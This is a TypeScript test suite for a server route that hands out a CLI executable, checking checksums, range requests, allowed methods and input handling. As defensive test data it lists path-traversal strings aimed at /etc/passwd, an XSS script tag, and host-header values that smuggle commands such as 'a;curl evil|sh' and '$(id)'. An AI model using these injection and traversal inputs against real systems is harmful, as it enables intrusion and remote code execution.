import assert from "node:assert/strict";
import { createHash } from "node:crypto";
import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after, before, test } from "node:test";
import { type Platform, startPlatform } from "../../../server/test/support/platform.ts";
import { sendRaw } from "../../../server/test/support/raw-http.ts";
import { freePort } from "../../../server/test/support/unused-port.ts";

// /cli hands files out to whoever asks: nothing but those files, whatever is asked.

const CONTENT = Buffer.alloc(600_000, "an executable ");
const SHA256 = createHash("sha256").update(CONTENT).digest("hex");
const FILE = "/cli/moorage-linux-x64";

let folder: string;
let platform: Platform;
before(async () => {
  folder = mkdtempSync(join(tmpdir(), "moorage-command-"));
  writeFileSync(join(folder, "moorage-linux-x64"), CONTENT);
  writeFileSync(join(folder, "version"), "1.2.3\n");
  writeFileSync(join(folder, "secret"), "a secret");
  mkdirSync(join(folder, "moorage-linux-arm64"));
  symlinkSync(join(folder, "secret"), join(folder, "link"));
  platform = await startPlatform({ MOORAGE_COMMAND_DIR: folder, MOORAGE_HOST: "127.0.0.1" });
});
after(async () => {
  await platform.close();
  rmSync(folder, { recursive: true, force: true, maxRetries: 10 });
});

const port = (): number => Number(new URL(platform.url).port);
/** The answer to a path that no client of Node would send as it stands. */
const raw = (path: string, ...headers: string[]) => sendRaw(port(), [`GET ${path} HTTP/1.1`, "host: x", ...headers]);

test("without a token the file comes whole, with its checksum and the version that it is said to be of", async () => {
  const answer = await fetch(platform.url + FILE);
  assert.equal(answer.status, 200);
  assert.deepEqual(Buffer.from(await answer.arrayBuffer()), CONTENT);
  assert.deepEqual(
    ["etag", "content-type", "accept-ranges", "x-content-type-options", "content-disposition"].map((name) =>
      answer.headers.get(name),
    ),
    [`"${SHA256}"`, "application/octet-stream", "bytes", "nosniff", 'attachment; filename="moorage-linux-x64"'],
  );
  assert.equal((await platform.call("GET", `${FILE}.sha256`)).text, `${SHA256}  moorage-linux-x64\n`);
  assert.equal((await platform.call("GET", `${FILE}.version`)).text, "1.2.3\n");
  const known = await fetch(platform.url + FILE, { headers: { "if-none-match": `"${SHA256}"` } });
  assert.deepEqual([known.status, await known.text()], [304, ""]);
  const head = await fetch(platform.url + FILE, { method: "HEAD" });
  assert.deepEqual(
    [head.status, head.headers.get("content-length"), await head.text()],
    [200, String(CONTENT.length), ""],
  );
});

test("another name leads nowhere: not out of the folder, and not to what else is in it", async () => {
  for (const path of [
    "/cli/secret",
    "/cli/link",
    "/cli/version",
    "/cli/",
    "/cli//moorage-linux-x64",
    "/cli/moorage-linux-arm64",
    "/cli/moorage-linux-arm64.sha256",
    "/cli/moorage-linux-x64/",
    "/cli/moorage-linux-x64.sha256.sha256",
    "/cli/moorage-linux-x64.version.sha256",
    "/cli/moorage-linux-x64%00",
    "/cli/moorage-linux-x64%2f..%2fsecret",
    "/cli/../cli/secret",
    "/cli/./moorage-linux-x64",
    "/cli/..%2fsecret",
    "/cli/%2e%2e/%2e%2e/etc/passwd",
    "/cli/../../../../../../etc/passwd",
    "/cli/..\\..\\etc\\passwd",
    "/cli/constructor",
    "/cli/__proto__",
    `/cli/${"moorage-".repeat(500)}`,
    "/npm/-/moorage/",
    "/npm/-/moorage/left-pad",
    "/npm/-/moorage/-/moorage-9.9.9.tgz",
    "/npm/-/moorage/-/../../secret",
    "/npm/-/moorage/-/",
  ]) {
    const answer = await raw(path);
    assert.equal(answer.status, 404, path);
    assert.equal(answer.headers["cache-control"], "no-store", path);
    assert.doesNotMatch(answer.body, /a secret|an executable|root:/, path);
  }
});

test("a range selects a part of the file; what is not one, or selects a great many, is answered once and whole", async () => {
  const last = CONTENT.length - 1;
  for (const [range, status, contentRange] of [
    ["bytes=0-9", 206, `bytes 0-9/${CONTENT.length}`],
    ["bytes=-5", 206, `bytes ${last - 4}-${last}/${CONTENT.length}`],
    [`bytes=${last}-`, 206, `bytes ${last}-${last}/${CONTENT.length}`],
    ["bytes=0-999999999999999", 206, `bytes 0-${last}/${CONTENT.length}`],
    [`bytes=${CONTENT.length}-`, 416, `bytes */${CONTENT.length}`],
    ["bytes=999999999999999-", 416, `bytes */${CONTENT.length}`],
    ["bytes=9-0", 416, `bytes */${CONTENT.length}`],
    ["bytes=-0", 416, `bytes */${CONTENT.length}`],
    [`bytes=${"0-1,".repeat(2000)}0-1`, 200, null],
    [`bytes=0-${"9".repeat(4000)}`, 200, null],
    ["bytes=a-b", 200, null],
    ["lines=0-1", 200, null],
  ] as const) {
    const answer = await fetch(platform.url + FILE, { headers: { range } });
    const shown = range.slice(0, 40);
    assert.deepEqual([answer.status, answer.headers.get("content-range")], [status, contentRange], shown);
    const body = Buffer.from(await answer.arrayBuffer());
    assert.equal(answer.headers.get("content-length"), String(body.length), shown);
    const [, first = "", end = ""] = /^bytes (\d+)-(\d+)\//.exec(contentRange ?? "") ?? [];
    if (status === 206) assert.deepEqual(body, CONTENT.subarray(Number(first), Number(end) + 1), shown);
    if (status === 200) assert.equal(body.length, CONTENT.length, shown);
  }
  const changed = await fetch(platform.url + FILE, { headers: { range: "bytes=0-1", "if-range": '"other"' } });
  assert.equal(changed.status, 200, "a part of another file is not continued with this one");
  await changed.body?.cancel();
});

test("nothing but reading is taken, with or without a body", async () => {
  for (const path of ["/cli", FILE, "/npm/-/moorage/moorage"])
    for (const method of ["POST", "PUT", "DELETE", "PATCH"]) {
      const answer = await fetch(platform.url + path, {
        method,
        ...(method !== "DELETE" && { body: "x".repeat(9000) }),
      });
      assert.deepEqual([answer.status, answer.headers.get("allow")], [405, "GET, HEAD"], `${method} ${path}`);
      await answer.body?.cancel();
    }
});

test("what a client says of the server's name comes into the lines of the page only where it is a name", async () => {
  const page = async (...headers: string[]): Promise<string> =>
    (await sendRaw(port(), ["GET /cli HTTP/1.1", ...headers])).body;
  for (const host of [
    'x"><script>alert(1)</script>',
    "a;curl evil|sh",
    "$(id)",
    "`id`",
    "a b",
    "user:password@example.com",
    "example.com/../..",
    "a&&b",
  ]) {
    const text = await page(`host: ${host}`);
    assert.doesNotMatch(text, /<script|curl evil|\$\(id\)|`id`|password@|&&b|a b\//, host);
    if (text.includes("<pre>")) assert.match(text, /http:\/\/127\.0\.0\.1:\d+\/cli\/moorage/, host);
  }
  const two = await page("host: one.example.com", "host: two.example.com");
  assert.doesNotMatch(two, /(?:one|two)\.example\.com/);
  assert.doesNotMatch(await page("host: 127.0.0.1", "x-forwarded-host: evil.example.com"), /evil/);
});

test("with a base URL of its own the page names that one alone, whatever the client calls", async (t) => {
  const own = await freePort();
  const baseUrl = `http://localhost:${own}`;
  const settings = { MOORAGE_COMMAND_DIR: folder, MOORAGE_BASE_URL: baseUrl, MOORAGE_PORT: String(own) };
  const other = await startPlatform(settings);
  t.after(() => other.close());
  const { text } = await other.call("GET", "/cli", { headers: { host: "evil.example.com" } });
  assert.ok(text.includes(`curl -fsSLo moorage ${baseUrl}/cli/moorage-linux-x64`), text);
  assert.doesNotMatch(text, /evil/);
});

test("the page is one without scripts, and says of each file what it is", async () => {
  const { status, headers, text } = await platform.call("GET", "/cli");
  assert.equal(status, 200);
  assert.match(String(headers["content-security-policy"]), /^default-src 'none'; .*frame-ancestors 'none'/);
  assert.doesNotMatch(text, /<script/);
  assert.ok(text.includes(`version 1.2.3, ${CONTENT.length} bytes, SHA-256 <code>${SHA256}</code>`), text);
});

test("a file that is replaced has another checksum, and one that is empty or gone is not handed out", async () => {
  const path = join(folder, "moorage-linux-x64");
  try {
    writeFileSync(path, "another one");
    const sum = createHash("sha256").update("another one").digest("hex");
    assert.equal((await platform.call("GET", `${FILE}.sha256`)).text, `${sum}  moorage-linux-x64\n`);
    writeFileSync(path, "");
    assert.equal((await platform.call("GET", FILE)).status, 404);
    rmSync(path);
    assert.equal((await platform.call("GET", FILE)).status, 404);
    assert.match((await platform.call("GET", "/cli")).text, /hands out no executables/);
  } finally {
    writeFileSync(path, CONTENT);
  }
});
